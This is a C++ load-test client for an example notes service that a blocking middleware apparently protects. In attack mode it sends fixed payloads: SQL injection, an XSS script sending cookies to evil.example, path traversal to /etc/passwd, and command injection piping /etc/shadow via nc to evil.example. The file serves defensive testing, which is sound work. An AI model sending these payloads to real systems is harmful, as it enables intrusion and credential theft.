// A client for examples/httplib_service (the notes service): sends requests as one session
// (cookie JSESSIONID), optionally naming a client address in "X-Forwarded-For" (the service
// trusts it only from a configured proxy), and counts the answers, so the live test
// (live_test.sh) and a person trying docs/integrate.md can see a service get blocked. Normal
// requests read notes (GET /notes/:id), search (GET /search?q=) and write notes (POST /notes,
// a JSON body), with words drawn from small lists; attack requests carry the usual classes (SQL
// injection, XSS, path traversal, command injection, an oversized value, a malformed body,
// tampered parameters). Bounded by --count and --seconds. Prints one line:
//   sent=N ok=N denied=N other=N first_denied=I|-1 seconds=S
// (denied: 403 from the middleware; other: any other non-2xx answer or a transport error).
//   immunizer-httplib-client [--host 127.0.0.1] --port 8090 --session alice [--ip 198.51.100.7]
//                            --kind normal|attack --count 100 [--rate 50] [--stop-when-denied]
//                            [--seconds 60] [--seed 1]
#include <httplib.h>

#include <cstdio>
#include <cstdlib>
#include <random>
#include <string>
#include <vector>

#include "../common/load_client.hpp"

namespace {

using immunizer::examples::pick;

const std::vector<std::string> kWords = {
    "rioja",   "manchego", "aceite",   "jamon",   "turron", "azafran", "chorizo", "cava",
    "miel",    "pimenton", "mazapan",  "receta",  "compra", "viaje",   "madrid",  "sevilla",
    "reunion", "lunes",    "proyecto", "factura", "regalo", "cumple",  "tienda",  "envio"};
const std::vector<std::string> kTags = {"casa", "trabajo", "ideas", "compras", "viajes"};

int uniform(std::mt19937& rng, int lo, int hi) {
  return std::uniform_int_distribution<int>(lo, hi)(rng);
}

std::string words(std::mt19937& rng, int lo, int hi, const char* sep) {
  std::string s;
  for (int n = uniform(rng, lo, hi), i = 0; i < n; ++i) s += (i ? sep : "") + pick(rng, kWords);
  return s;
}

struct Request {
  std::string method, path, body, content_type;
};

Request normal_request(std::mt19937& rng) {
  switch (uniform(rng, 0, 2)) {
    case 0:
      return {"GET", "/notes/" + std::to_string(uniform(rng, 1, 500)), "", ""};
    case 1:
      return {"GET", "/search?q=" + words(rng, 1, 3, "+"), "", ""};
    default: {
      std::string body = "{\"text\": \"" + words(rng, 2, 8, " ") + "\", \"tags\": [\"" +
                         pick(rng, kTags) +
                         "\"], \"pinned\": " + (uniform(rng, 0, 4) == 0 ? "true" : "false") + "}";
      return {"POST", "/notes", std::move(body), "application/json"};
    }
  }
}

Request attack_request(long i) {
  switch (i % 8) {
    case 0:
      return {"GET", "/search?q=%27+OR+%271%27%3D%271%27+--+" + std::to_string(i), "", ""};
    case 1:
      return {"POST", "/notes",
              "{\"text\": \"<script>document.location='http://evil.example/?c='+document.cookie"
              "</script>\", \"tags\": [\"casa\"], \"pinned\": false}",
              "application/json"};
    case 2:
      return {"GET", "/notes/..%2F..%2F..%2F..%2Fetc%2Fpasswd%00", "", ""};
    case 3:
      return {"GET", "/search?q=rioja%3B+cat+%2Fetc%2Fshadow+%7C+nc+evil.example+4444", "", ""};
    case 4:
      return {"GET", "/search?q=" + std::string(4000, 'A'), "", ""};
    case 5:
      return {"POST", "/notes", "{\"text\": \"a\", \"tags\": [[[[[[[[[[\"x\"]]]]]]]]]], \"pin",
              "application/json"};
    case 6:
      return {"GET", "/notes/-999999999999?admin=1&debug=true&role=root", "", ""};
    default:
      return {"GET", "/search?q=1+UNION+SELECT+username%2Cpassword+FROM+users", "", ""};
  }
}

}  // namespace

int main(int argc, char** argv) {
  immunizer::examples::LoadOptions o;
  std::string host = "127.0.0.1";
  int port = 8090;
  const bool parsed = immunizer::examples::parse_load_options(
      argc, argv, o, [&](const std::string& flag, const char* v) {
        if (flag == "--host")
          host = v;
        else if (flag == "--port")
          port = std::atoi(v);
        else
          return false;
        return true;
      });
  if (!parsed || port <= 0 || port >= 65536) {
    std::fprintf(stderr,
                 "usage: immunizer-httplib-client [--host H] [--port P] [--session S] [--ip ADDR] "
                 "[--kind normal|attack] [--count N] [--rate R] [--seconds S] "
                 "[--stop-when-denied] [--seed N]\n");
    return 2;
  }
  httplib::Client cli(host, port);
  // One connection per request: on a kept-alive connection httplib's server (TCP_NODELAY off by
  // default, headers and body written separately) waits ~40 ms per answer for the delayed ACK.
  cli.set_keep_alive(false);
  cli.set_connection_timeout(std::chrono::seconds(5));
  cli.set_read_timeout(std::chrono::seconds(5));
  httplib::Headers headers{{"Cookie", "JSESSIONID=" + o.session}};
  if (!o.ip.empty()) headers.emplace("X-Forwarded-For", o.ip);
  immunizer::examples::run_load(o, [&](long i, std::mt19937& rng) {
    const Request r = o.kind == "attack" ? attack_request(i) : normal_request(rng);
    const httplib::Result res = r.method == "POST"
                                    ? cli.Post(r.path, headers, r.body, r.content_type)
                                    : cli.Get(r.path, headers);
    const int status = res ? res->status : 0;
    if (status >= 200 && status < 300) return immunizer::examples::Answer::kOk;
    return status == 403 ? immunizer::examples::Answer::kDenied
                         : immunizer::examples::Answer::kOther;
  });
  return 0;
}
